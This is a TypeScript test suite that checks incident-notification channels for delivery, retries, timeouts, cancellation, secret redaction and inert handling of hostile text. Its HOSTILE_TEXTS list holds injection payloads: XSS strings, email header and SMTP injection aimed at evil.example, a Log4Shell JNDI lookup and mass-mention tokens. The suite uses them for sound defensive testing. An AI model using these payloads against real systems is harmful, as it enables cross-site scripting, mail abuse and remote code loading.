import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import {
  type Channel,
  type FailureReason,
  type IncidentMessage,
  MESSAGE_PURPOSES,
  type SendOutcome,
} from '../../src/notify/channel.ts'
import { sampleMessage, sampleResolution } from '../../src/notify/channels/sample-incident-message.ts'

/**
 * What a receiver can do to a message. `busy`: it asks to wait. `refusing`: a person must repair something. `silent`: it
 * takes the message and never answers. `cut-off`: it takes the message and breaks the connection. `gone`: nobody is there.
 */
const TROUBLES = ['busy', 'refusing', 'silent', 'cut-off', 'gone'] as const
export type Trouble = (typeof TROUBLES)[number]

/** A channel with a receiver of its own to talk to. */
export interface ChannelUnderTest {
  /** Gives up after a second and a half at most. */
  readonly channel: Channel
  /** Parts of its settings that nobody may see. */
  readonly secrets: readonly string[]
  /** Every message that the receiver holds, as people or programs get to read it. */
  readonly shown: () => readonly string[]
  /** What in the messages that the receiver holds is alive: a mention, a tag, a link that nobody promised. */
  readonly live: () => readonly string[]
  readonly meet: (trouble: Trouble) => void
  readonly recover: () => void
  readonly close: () => Promise<void>
}

export interface ChannelTraits {
  /** What a lost answer means here: a doubt, or a retry because the receiver knows repetitions. */
  readonly lostAnswer: 'ambiguous' | 'retry'
  /** Why a trouble cannot be met here, in words; no test is made of what cannot be. */
  readonly cannotMeet?: Readonly<Partial<Record<Trouble, string>>>
}

const REASONS: ReadonlySet<FailureReason> = new Set([
  'bad-credentials',
  'missing-permission',
  'no-such-channel',
  'not-a-member',
  'channel-archived',
  'message-refused',
  'unknown-refusal',
])

/** Text that means something to one reader or another. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<!channel> <@U0123456789> <!subteam^S0123456789> @here @everyone',
  '<https://evil.example/|https://grafana.example.com> *bold* _it_ ~no~ `code`',
  '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="alert(1)">',
  '"><a href="javascript:alert(1)">Runbook</a><style>*{display:none}</style>',
  "' onmouseover='alert(1)' x='",
  'Severity: debug\r\nBcc: everybody@evil.example\r\n\r\nX',
  '.\r\nQUIT\r\n',
  '=?utf-8?Q?=0D=0ABcc:_everybody@evil.example?=',
  '{"event":"resolved"}\u0000\ud800',
  '${jndi:ldap://evil.example/a} {{7*7}} %0d%0a',
]

const SOON_MS = 5_000
const never = new AbortController().signal

/** A channel while it is tested, and the ways to make it speak. */
interface Rig {
  readonly under: () => ChannelUnderTest
  readonly traits: ChannelTraits
  readonly send: (message: IncidentMessage, signal?: AbortSignal) => Promise<SendOutcome>
  readonly sendDuring: (trouble: Trouble, signal?: AbortSignal) => Promise<SendOutcome>
  /** A rule that holds where the trouble can be met. */
  readonly ruleFor: (trouble: Trouble, title: string, body: () => Promise<void>) => void
}

/** What every channel promises to those who call it. `open` gives one with an untroubled receiver. */
export function describeChannel(name: string, traits: ChannelTraits, open: () => Promise<ChannelUnderTest>): void {
  describe(`${name} channel`, () => {
    let under: ChannelUnderTest
    beforeAll(async () => {
      under = await open()
    })
    afterAll(() => under.close())
    beforeEach(() => under.recover())

    const rig: Rig = {
      under: () => under,
      traits,
      send: async (message, signal = never) => await under.channel.send(message, signal),
      sendDuring: async (trouble, signal = never) => {
        under.meet(trouble)
        return await under.channel.send(sampleMessage(), signal)
      },
      ruleFor: (trouble, title, body) => {
        if (traits.cannotMeet?.[trouble] === undefined) test(title, body)
      },
    }
    testTelling(rig)
    testTrouble(rig)
    testStopping(rig)
    testSecrecy(rig)
  })
}

function testTelling({ under, send }: Rig): void {
  test('says who it is and how fast it may be used', () => {
    const { id, kind, pace } = under().channel
    expect([id, kind]).not.toContain('')
    expect(pace === null || (pace.perSecond > 0 && pace.burst >= 1)).toBe(true)
  })

  for (const purpose of MESSAGE_PURPOSES) {
    test(`tells ${purpose}, first of a thread or in it`, async () => {
      const facts = { purpose, notes: [{ by: 'Minji', text: 'Rolling back', at: 0 }], raisedFrom: 'warning' } as const
      const root = await send(sampleMessage({ message: { ...facts, deliveryId: `01ROOT-${purpose}` } }))
      if (root.kind !== 'delivered') throw new Error(JSON.stringify(root))
      expect(root.threadId).toBeNull()
      expect(root.id).not.toBe('')
      const thread = under().channel.hasThreads ? { id: root.id, place: root.place } : null
      const reply = await send(sampleMessage({ message: { ...facts, thread, deliveryId: `01REPLY-${purpose}` } }))
      expect(reply).toMatchObject({ kind: 'delivered', threadId: thread?.id ?? null })
      const texts = under().shown().slice(-2)
      expect(texts).toHaveLength(2)
      for (const text of texts) expect(text).toContain('Database Critical Failure')
    })
  }

  test('text of a sender stays text wherever it stands', async () => {
    for (const [index, text] of HOSTILE_TEXTS.entries()) {
      const root = await send(hostile(sampleMessage(), text, index))
      const news = await send(hostile(sampleResolution(), text, index))
      expect([root.kind, news.kind], text).toEqual(['delivered', 'delivered'])
    }
    expect(under().live()).toEqual([])
  })
}

function testTrouble({ traits, sendDuring, ruleFor }: Rig): void {
  ruleFor('busy', 'a receiver that asks to wait is obeyed, not blamed', async () => {
    const outcome = await sendDuring('busy')
    expect(outcome).toMatchObject({ kind: 'retry', reason: 'rate-limited' })
    expect(outcome.kind === 'retry' && (outcome.afterMs ?? 0) >= 1_000).toBe(true)
  })

  ruleFor('refusing', 'a refusal says what a person must do', async () => {
    const outcome = await sendDuring('refusing')
    if (outcome.kind !== 'rejected') throw new Error(JSON.stringify(outcome))
    expect(REASONS.has(outcome.reason)).toBe(true)
    expect(outcome.detail.length).toBeGreaterThan(30)
  })

  ruleFor('silent', 'a receiver that never answers holds nobody up', async () => {
    const begin = performance.now()
    expect(await sendDuring('silent')).toMatchObject({ kind: traits.lostAnswer })
    expect(performance.now() - begin).toBeLessThan(SOON_MS)
  })

  ruleFor('cut-off', `an answer that was lost is ${traits.lostAnswer}`, async () => {
    expect(await sendDuring('cut-off')).toMatchObject({ kind: traits.lostAnswer })
  })

  ruleFor('gone', 'a message that certainly was not shown is tried again', async () => {
    expect(await sendDuring('gone')).toMatchObject({ kind: 'retry', reason: 'unreachable' })
  })
}

function testStopping({ under, send, sendDuring, ruleFor }: Rig): void {
  ruleFor('silent', 'who stops it need not wait for its timeout, and it does not throw', async () => {
    const stop = new AbortController()
    setTimeout(() => stop.abort(), 200)
    const begin = performance.now()
    expect(['retry', 'ambiguous']).toContain((await sendDuring('silent', stop.signal)).kind)
    expect(performance.now() - begin).toBeLessThan(1_000)
  })

  ruleFor('silent', 'what was stopped before it began is not sent', async () => {
    const before = under().shown().length
    expect(await send(sampleMessage(), AbortSignal.abort())).toMatchObject({ kind: 'retry' })
    expect(under().shown()).toHaveLength(before)
  })
}

function testSecrecy({ under, sendDuring, ruleFor }: Rig): void {
  for (const trouble of TROUBLES) {
    ruleFor(trouble, `no secret is in what it says of a receiver that is ${trouble}`, async () => {
      const said = JSON.stringify(await sendDuring(trouble))
      expect(under().secrets.filter((secret) => said.includes(secret))).toEqual([])
    })
  }
}

/** The message with the text in every place that a sender or a person fills. */
function hostile(message: IncidentMessage, text: string, index: number): IncidentMessage {
  const { incident, alert } = message
  const texts = { service: text, cluster: text, namespace: text, environment: text, title: text, correlationText: text }
  return {
    ...message,
    thread: null,
    deliveryId: `01HOSTILE-${message.purpose}-${index}`,
    incident: { ...incident, ...texts, labels: { ...incident.labels, [text]: text }, owner: { id: text, name: text } },
    alert: {
      ...alert,
      title: text,
      labels: { alertname: text, instance: text, [text]: text },
      annotations: { summary: text, description: text, [text]: text },
    },
    differing: [{ name: text, values: [text, text], more: 1 }],
    notes: [{ by: text, text, at: 0 }],
    environment: text,
  }
}
